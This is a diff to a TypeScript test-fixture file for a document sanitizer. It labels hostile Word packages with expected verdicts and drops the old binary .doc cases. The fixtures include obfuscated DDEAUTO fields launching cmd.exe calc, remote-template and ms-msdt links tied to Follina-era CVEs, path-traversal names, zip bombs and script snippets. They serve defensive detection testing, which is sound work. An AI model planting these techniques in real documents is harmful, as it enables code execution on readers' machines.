@@ -1,5 +1,6 @@
-import { archive, doc, docx, related, wordDocument, wordPackage, xml } from "../resumes.ts";
+import { archive, docx, related, wordDocument, wordPackage, xml } from "../resumes.ts";
 import { pdf } from "../pdf-file.ts";
+import type { HostileDocument } from "./hostile-document.ts";
 
 const mebibyte = 1024 * 1024;
 const zeros = new Uint8Array(40 * mebibyte);
@@ -35,10 +36,14 @@ const utf16 = (text: string) => Buffer.from(text, "utf16le");
 const dde = `<w:p><w:fldSimple w:instr="DDE c:\\\\cmd.exe calc"/></w:p>`;
 
 /** Archives that are no document, lie about themselves or burst (Fifield, "A better zip bomb"; Info-ZIP's tests). */
-const archives: [string, Uint8Array][] = [
-  ["an archive's first bytes alone", Buffer.from("PK\x03\x04\x14\x00\x00\x00", "latin1")],
-  ["a Word package cut in the middle", picture("ab".repeat(2500)).subarray(0, 400)],
-  ["a Word package with something behind it", Buffer.concat([docx(), Buffer.from("<script>alert(1)</script>")])],
+const archives: readonly HostileDocument[] = [
+  ["an archive's first bytes alone", Buffer.from("PK\x03\x04\x14\x00\x00\x00", "latin1"), "damaged"],
+  ["a Word package cut in the middle", picture("ab".repeat(2500)).subarray(0, 400), "damaged"],
+  [
+    "a Word package with something behind it",
+    Buffer.concat([docx(), Buffer.from("<script>alert(1)</script>")]),
+    "combined",
+  ],
   [
     "a Word package with a comment",
     archive(
@@ -48,6 +53,7 @@ const archives: [string, Uint8Array][] = [
       ],
       "hello",
     ),
+    "damaged",
   ],
   [
     "a Word package with a PDF in front of its parts",
@@ -55,6 +61,7 @@ const archives: [string, Uint8Array][] = [
       { name: "%PDF-1.7", data: pdf() },
       { name: "word/document.xml", data: "x" },
     ]),
+    "combined",
   ],
   [
     "an archive that holds no document",
@@ -62,22 +69,26 @@ const archives: [string, Uint8Array][] = [
       { name: "[Content_Types].xml", data: "x" },
       { name: "xl/workbook.xml", data: "x" },
     ]),
+    "damaged",
   ],
-  ["an archive of nothing", archive([])],
+  ["an archive of nothing", archive([]), "unknown"],
   [
     "a Java archive",
     archive([
       { name: "META-INF/MANIFEST.MF", data: "x" },
       { name: "A.class", data: "x" },
     ]),
+    "archive",
   ],
   [
     "a Word package with an encrypted part",
     docx([{ name: "word/media/a.png", data: "x", claims: { encrypted: true } }]),
+    "password",
   ],
-  ["a Word package that climbs out", docx([{ name: "../../etc/cron.d/x.png", data: "x" }])],
-  ["a Word package with an absolute name", docx([{ name: "/etc/passwd.png", data: "x" }])],
-  ["a Word package with a name twice", docx([{ name: "word/document.xml", data: "<other/>" }])],
+  ["a Word package with a wrong checksum", docx([{ name: "word/media/a.png", data: "x", claims: { crc: 1 } }]), []],
+  ["a Word package that climbs out", docx([{ name: "../../etc/cron.d/x.png", data: "x" }]), "damaged"],
+  ["a Word package with an absolute name", docx([{ name: "/etc/passwd.png", data: "x" }]), "damaged"],
+  ["a Word package with a name twice", docx([{ name: "word/document.xml", data: "<other/>" }]), "ambiguous"],
   [
     "a bomb of many parts",
     docx(
@@ -86,156 +97,169 @@ const archives: [string, Uint8Array][] = [
         data: zeros.subarray(0, 10 * mebibyte),
       })),
     ),
+    "tooComplex",
   ],
-  ["a bomb that says it is small", docx([{ ...bomb(8 * mebibyte), claims: { size: 10 } }])],
-  ["a part that says it is huge", docx([{ name: "word/media/a.png", data: "x", claims: { size: 0xfffffff0 } }])],
-  ["a part with two names", docx([{ name: "word/media/a.png", data: "x", calledLocally: "word/media/a.exe" }])],
+  ["a bomb that says it is small", docx([{ ...bomb(8 * mebibyte), claims: { size: 10 } }]), "damaged"],
+  [
+    "a part that says it is huge",
+    docx([{ name: "word/media/a.png", data: "x", claims: { size: 0xfffffff0 } }]),
+    "damaged",
+  ],
+  [
+    "a part with two names",
+    docx([{ name: "word/media/a.png", data: "x", localName: "word/media/a.exe" }]),
+    "ambiguous",
+  ],
   [
     "an archive of 3,000 parts",
     docx(Array.from({ length: 3000 }, (_, index) => ({ name: `word/p${index}.png`, data: "" }))),
+    "tooComplex",
   ],
 ];
 
 /** Macros, controls and other programs, whatever their parts are called (ISO/IEC 29500-2; [MS-OFFMACRO2]; oletools). */
-const programs: [string, Uint8Array][] = [
-  ["a Word package with macros", docx([{ name: "word/vbaProject.bin", data: "x" }])],
-  ["a Word package with macros spelt oddly", docx([{ name: "word/VBAproject.BIN", data: "x" }])],
-  ["macros that are called a picture", bound("vbaProject", "application/vnd.ms-office.vbaProject")],
-  ["macros by their relation alone", bound("vbaProject", "image/png")],
-  ["macros by their content type alone", bound("image", "application/vnd.ms-office.vbaProject")],
+const programs: readonly HostileDocument[] = [
+  ["a Word package with macros", docx([{ name: "word/vbaProject.bin", data: "x" }]), "macros"],
+  ["a Word package with macros spelt oddly", docx([{ name: "word/VBAproject.BIN", data: "x" }]), "macros"],
+  ["macros that are called a picture", bound("vbaProject", "application/vnd.ms-office.vbaProject"), "macros"],
+  ["macros by their relation alone", bound("vbaProject", "image/png"), "macros"],
+  ["macros by their content type alone", bound("image", "application/vnd.ms-office.vbaProject"), "macros"],
   [
     "a document with macros by its main type",
     wordPackage({ mainType: "application/vnd.ms-word.document.macroEnabled.main+xml" }),
+    "macros",
   ],
-  ["a Word package with a control", docx([{ name: "word/activeX/activeX1.bin", data: "x" }])],
-  ["a control that is called a picture", bound("control", "application/vnd.ms-office.activeX+xml", "<ax/>")],
+  ["a Word package with a control", docx([{ name: "word/activeX/activeX1.bin", data: "x" }]), ["control"]],
+  [
+    "a control that is called a picture",
+    bound("control", "application/vnd.ms-office.activeX+xml", "<ax/>"),
+    ["control"],
+  ],
   [
     "a Word package with keys of its own",
     bound("keyMapCustomizations", "application/vnd.ms-word.keyMapCustomizations+xml", "<x/>"),
+    ["control"],
   ],
-  ["a Word package with an add-in", bound("webextension", "application/vnd.ms-office.webextension+xml", "<x/>")],
-  ["a Word package with a ribbon", bound("extensibility", "application/xml", "<customUI/>")],
-  ["a Word package with an embedded object", docx([{ name: "word/embeddings/oleObject1.bin", data: "x" }])],
-  ["an object that is called a picture", bound("oleObject", "image/png", "x")],
-  ["an object in a picture's place", picture("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1")],
+  [
+    "a Word package with an add-in",
+    bound("webextension", "application/vnd.ms-office.webextension+xml", "<x/>"),
+    ["control"],
+  ],
+  ["a Word package with a ribbon", bound("extensibility", "application/xml", "<customUI/>"), ["control"]],
+  [
+    "a Word package with an embedded object",
+    docx([{ name: "word/embeddings/oleObject1.bin", data: "x" }]),
+    ["embeddedObject"],
+  ],
+  ["an object that is called a picture", bound("oleObject", "image/png", "x"), ["embeddedObject"]],
+  ["an object in a picture's place", picture("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), ["embeddedObject"]],
   [
     "a table for calculation in it",
     bound("package", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
+    ["attachment"],
   ],
-  ["a Windows program in a picture's place", picture("MZ\x90\x00\x03")],
-  ["a Linux program in a picture's place", picture("\x7fELF\x02")],
-  ["a Mac program in a picture's place", picture("\xcf\xfa\xed\xfe")],
-  ["a shell script in a picture's place", picture("#!/bin/sh\n")],
-  ["a shortcut in a picture's place", picture("L\0\0\0\x01\x14\x02\0")],
-  ["an archive in a picture's place", picture("PK\x03\x04")],
-  ["rich text in a picture's place", picture("{\\rtf1}")],
-  ["a PDF in a picture's place", picture("%PDF-1.7")],
-  ["a web page in a picture's place", picture("<html><script>alert(1)</script></html>")],
+  ["a Windows program in a picture's place", picture("MZ\x90\x00\x03"), "program"],
+  ["a Linux program in a picture's place", picture("\x7fELF\x02"), "program"],
+  ["a Mac program in a picture's place", picture("\xcf\xfa\xed\xfe"), "program"],
+  ["a shell script in a picture's place", picture("#!/bin/sh\n"), "program"],
+  ["a shortcut in a picture's place", picture("L\0\0\0\x01\x14\x02\0"), "program"],
+  ["an archive in a picture's place", picture("PK\x03\x04"), []],
+  ["rich text in a picture's place", picture("{\\rtf1}"), []],
+  ["a PDF in a picture's place", picture("%PDF-1.7"), []],
+  ["a web page in a picture's place", picture("<html><script>alert(1)</script></html>"), ["script"]],
   [
     "a drawing with a script in a package",
     picture('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
+    ["script"],
   ],
-  ["a part of a kind that documents have not", docx([{ name: "word/a.exe", data: "x" }])],
+  ["a part of a kind that documents have not", docx([{ name: "word/a.exe", data: "x" }]), "program"],
 ];
 
 /** What is fetched from elsewhere when the file is opened (CVE-2017-0199, CVE-2021-40444, CVE-2022-30190 "Follina"). */
-const elsewhere: [string, Uint8Array][] = [
-  ["a template from the web", relation("attachedTemplate", "http://host/a.dotm")],
-  ["a template from a share", relation("attachedTemplate", "\\\\host\\share\\a.dotm")],
-  ["a template from a share by its address", relation("attachedTemplate", "file://host/share/a.dotm")],
-  ["a template in escapes", relation("attachedTemplate", "%66ile:%2f%2fhost/a.dotm")],
-  ["a template in XML's escapes", relation("attachedTemplate", "&#104;ttp://host/a.dotm")],
-  ["a template that says it is within", relation("attachedTemplate", "http://host/a.dotm", "Internal")],
+const elsewhere: readonly HostileDocument[] = [
+  ["a template from the web", relation("attachedTemplate", "http://host/a.dotm"), "runsOnOpen"],
+  ["a template from a share", relation("attachedTemplate", "\\\\host\\share\\a.dotm"), "runsOnOpen"],
+  ["a template from a share by its address", relation("attachedTemplate", "file://host/share/a.dotm"), "runsOnOpen"],
+  ["a template in escapes", relation("attachedTemplate", "%66ile:%2f%2fhost/a.dotm"), "runsOnOpen"],
+  ["a template in XML's escapes", relation("attachedTemplate", "&#104;ttp://host/a.dotm"), "runsOnOpen"],
+  ["a template that says it is within", relation("attachedTemplate", "http://host/a.dotm", "Internal"), "runsOnOpen"],
   [
     "a template under another prefix",
     wordPackage({
       relations:
         '<r:Relationship xmlns:r="x" Id="r1" Type="x/attachedTemplate" Target="http://host/a" TargetMode="External"/>',
     }),
+    "runsOnOpen",
   ],
-  ["an object from the web", relation("oleObject", "mhtml:http://host/a!x-usc:http://host/b")],
-  ["a picture from the web", relation("image", "http://host/a.png")],
-  ["a frame from the web", relation("frame", "http://host/a.html")],
-  ["a part of the text from the web", relation("subDocument", "http://host/a.docx")],
-  ["addresses from a file", relation("mailMergeSource", "file:///C:/a.xlsx")],
-  ["a text of another kind within", bound("aFChunk", "text/html", "<p/>")],
-  ["rich text within", bound("aFChunk", "application/rtf", "x")],
-  ["a link to a share", relation("hyperlink", "\\\\host\\share")],
-  ["a link to a file", relation("hyperlink", "file:///c:/windows/system32/calc.exe")],
-  ["a link that is a script", relation("hyperlink", "javascript:alert(1)")],
-  ["a link to a protocol's program", relation("hyperlink", "ms-msdt:/id PCWDiagnostic")],
+  ["an object from the web", relation("oleObject", "mhtml:http://host/a!x-usc:http://host/b"), "runsOnOpen"],
+  ["a picture from the web", relation("image", "http://host/a.png"), ["externalContent"]],
+  ["a frame from the web", relation("frame", "http://host/a.html"), "runsOnOpen"],
+  ["a part of the text from the web", relation("subDocument", "http://host/a.docx"), "runsOnOpen"],
+  ["addresses from a file", relation("mailMergeSource", "file:///C:/a.xlsx"), ["externalContent"]],
+  ["a text of another kind within", bound("aFChunk", "text/html", "<p/>"), ["attachment"]],
+  ["rich text within", bound("aFChunk", "application/rtf", "x"), ["attachment"]],
+  ["a link to a share", relation("hyperlink", "\\\\host\\share"), ["externalLink"]],
+  ["a link to a file", relation("hyperlink", "file:///c:/windows/system32/calc.exe"), ["externalLink"]],
+  ["a link that is a script", relation("hyperlink", "javascript:alert(1)"), ["externalLink"]],
+  ["a link to a protocol's program", relation("hyperlink", "ms-msdt:/id PCWDiagnostic"), ["externalLink"]],
   [
     "a picture of the old kind from the web",
     wordPackage({ body: '<w:pict xmlns:v="v"><v:imagedata src="http://host/a.png"/></w:pict>' }),
+    ["externalContent"],
   ],
 ];
 
 /** Fields that start or fetch something, plain and hidden (SensePost 2017, "Macro-less code exec"; [MS-OI29500]). */
-const fields: [string, Uint8Array][] = [
-  ["a DDE field", wordPackage({ body: dde })],
-  ["a DDEAUTO field", field(instruction(' DDEAUTO c:\\\\cmd.exe "/k calc" '))],
-  ["a DDEAUTO field in small letters", field(instruction(' ddeauto c:\\\\cmd.exe "/k calc" '))],
-  ["a DDEAUTO field in pieces", field(..."DDEAUTO calc".split("").map(instruction))],
-  ["a DDEAUTO field in XML's escapes", field(instruction("&#68;DEAUTO calc"))],
-  ["a DDEAUTO field whose end is missing", wordPackage({ body: mark("begin") + instruction("DDEAUTO calc") })],
-  ["a DDEAUTO field in plain text's place", field(run("<w:t>DDEAUTO calc</w:t>"))],
+const fields: readonly HostileDocument[] = [
+  ["a DDE field", wordPackage({ body: dde }), "runsOnOpen"],
+  ["a DDEAUTO field", field(instruction(' DDEAUTO c:\\\\cmd.exe "/k calc" ')), "runsOnOpen"],
+  ["a DDEAUTO field in small letters", field(instruction(' ddeauto c:\\\\cmd.exe "/k calc" ')), "runsOnOpen"],
+  ["a DDEAUTO field in pieces", field(..."DDEAUTO calc".split("").map(instruction)), "runsOnOpen"],
+  ["a DDEAUTO field in XML's escapes", field(instruction("&#68;DEAUTO calc")), "runsOnOpen"],
+  [
+    "a DDEAUTO field whose end is missing",
+    wordPackage({ body: mark("begin") + instruction("DDEAUTO calc") }),
+    "runsOnOpen",
+  ],
+  ["a DDEAUTO field in plain text's place", field(run("<w:t>DDEAUTO calc</w:t>")), "runsOnOpen"],
   [
     "a DDEAUTO field by its characters' numbers",
     field(mark("begin"), instruction("QUOTE 68 68 69 65 85 84 79"), mark("end"), instruction(" calc")),
+    "runsOnOpen",
   ],
   [
     "a DDE field whose kind is half a field",
     field(instruction("DD"), mark("begin"), instruction("QUOTE 69"), mark("end"), instruction(" calc")),
+    "runsOnOpen",
   ],
-  ["a DDE field in a header", docx([{ name: "word/header1.xml", data: wordDocument(dde) }])],
+  ["a DDE field in a header", docx([{ name: "word/header1.xml", data: wordDocument(dde) }]), "runsOnOpen"],
   [
     "a DDE field in text of sixteen bits",
     mainPart(Buffer.concat([Buffer.from("fffe", "hex"), utf16(wordDocument(dde).replace("UTF-8", "UTF-16"))])),
+    "runsOnOpen",
   ],
-  ["text of sixteen bits without its mark", mainPart(utf16(wordDocument(dde).replace("UTF-8", "UTF-16")))],
-  ["text of an odd encoding", mainPart(wordDocument().replace("UTF-8", "UTF-7"))],
-  ["text that is no XML", mainPart("x")],
+  ["text of sixteen bits without its mark", mainPart(utf16(wordDocument(dde).replace("UTF-8", "UTF-16"))), "ambiguous"],
+  ["text of an odd encoding", mainPart(wordDocument().replace("UTF-8", "UTF-7")), "ambiguous"],
+  ["text that is no XML", mainPart("x"), "damaged"],
   [
     "text with a document type",
     mainPart(wordDocument().replace("<w:document", '<!DOCTYPE x [<!ENTITY a "b">]><w:document')),
+    [],
   ],
-  ["a field that fetches a text", field(instruction(' INCLUDETEXT "http://host/a.docx" '))],
-  ["a field that fetches a picture", field(instruction(' INCLUDEPICTURE "http://host/a.png" \\d '))],
-  ["a field that fetches a picture from a share", field(instruction(' INCLUDEPICTURE "\\\\\\\\host\\\\a.png" '))],
-  ["a field that binds a file", field(instruction(' LINK Excel.Sheet.8 "\\\\\\\\host\\\\a.xls" '))],
-  ["a field that links to a file", field(instruction(' HYPERLINK "file:///c:/windows/calc.exe" '))],
-  ["letters to many", wordPackage({ body: "<w:mailMerge/>" })],
+  ["a field that fetches a text", field(instruction(' INCLUDETEXT "http://host/a.docx" ')), "runsOnOpen"],
+  [
+    "a field that fetches a picture",
+    field(instruction(' INCLUDEPICTURE "http://host/a.png" \\d ')),
+    ["externalContent"],
+  ],
+  [
+    "a field that fetches a picture from a share",
+    field(instruction(' INCLUDEPICTURE "\\\\\\\\host\\\\a.png" ')),
+    "runsOnOpen",
+  ],
+  ["a field that binds a file", field(instruction(' LINK Excel.Sheet.8 "\\\\\\\\host\\\\a.xls" ')), "runsOnOpen"],
+  ["a field that links to a file", field(instruction(' HYPERLINK "file:///c:/windows/calc.exe" ')), ["externalLink"]],
+  ["letters to many", wordPackage({ body: "<w:mailMerge/>" }), ["externalContent"]],
 ];
 
-/** Word 97-2003 documents: compound files ([MS-CFB], [MS-DOC]) with what runs in them (oletools' signatures). */
-const binaries: [string, Uint8Array][] = [
-  ["a compound file's signature alone", Buffer.from("d0cf11e0a1b11ae1", "hex")],
-  ["a compound file cut in the middle", doc().subarray(0, 1600)],
-  ["a Word document with macros", doc({ names: ["Macros", "VBA", "_VBA_PROJECT"] })],
-  ["an encrypted Word document", doc({ encrypted: true })],
-  ["an encrypted package in a compound file", doc({ names: ["EncryptionInfo", "EncryptedPackage"] })],
-  ["a Word document with an archive behind it", Buffer.concat([doc(), archive([{ name: "a", data: "x" }])])],
-  ["a Word document with a packed file", doc({ names: ["ObjectPool", "\u0001Ole10Native"] })],
-  ["a Word document with a package", doc({ names: ["Package"] })],
-  ["a Word document with a control", doc({ names: ["\u0003OCXNAME"] })],
-  ["a Word document with an equation that is a program (CVE-2017-11882)", doc({ names: ["Equation Native"] })],
-  ["a Word document with a table for calculation", doc({ names: ["Workbook"] })],
-  ["a Word document with a DDE field", doc({ text: Buffer.from("\x13 DDEAUTO c:\\\\cmd.exe \x14\x15") })],
-  ["a Word document with a DDE field of sixteen bits", doc({ text: utf16("\x13 DDE calc \x14\x15") })],
-  ["a compound file whose directory bites its tail", patched((bytes) => bytes.writeUInt32LE(1, 512 + 4))],
-  ["a compound file with sectors of an odd size", patched((bytes) => bytes.writeUInt16LE(31, 30))],
-  ["a spreadsheet", renamed("WordDocument", "WorkbookABCD")],
-];
-
-function patched(change: (bytes: Buffer) => void): Buffer {
-  const bytes = doc();
-  change(bytes);
-  return bytes;
-}
-
-function renamed(from: string, to: string): Buffer {
-  const raw = (text: string) => utf16(text).toString("latin1");
-  return Buffer.from(doc().toString("latin1").replace(raw(from), raw(to)), "latin1");
-}
-
-export const hostileWord = [...archives, ...programs, ...elsewhere, ...fields, ...binaries];
+export const hostileWord: readonly HostileDocument[] = [...archives, ...programs, ...elsewhere, ...fields];
